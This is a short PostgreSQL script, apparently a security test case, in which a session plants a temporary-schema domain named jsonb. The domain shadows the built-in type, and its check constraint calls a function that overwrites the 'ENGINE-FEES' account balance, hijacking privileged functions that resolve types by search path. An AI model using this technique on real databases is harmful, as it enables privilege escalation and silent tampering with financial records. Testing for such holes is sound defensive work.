-- An engine's session that puts a type of its own where a function of the owner could look for one.
create function pg_temp.intrude(given pg_catalog.jsonb) returns boolean
language plpgsql volatile as $$ begin
    update core.account set balance = 666 where account = 'ENGINE-FEES';
    return true;
end $$;
create domain pg_temp.jsonb as pg_catalog.jsonb check (pg_temp.intrude(value));
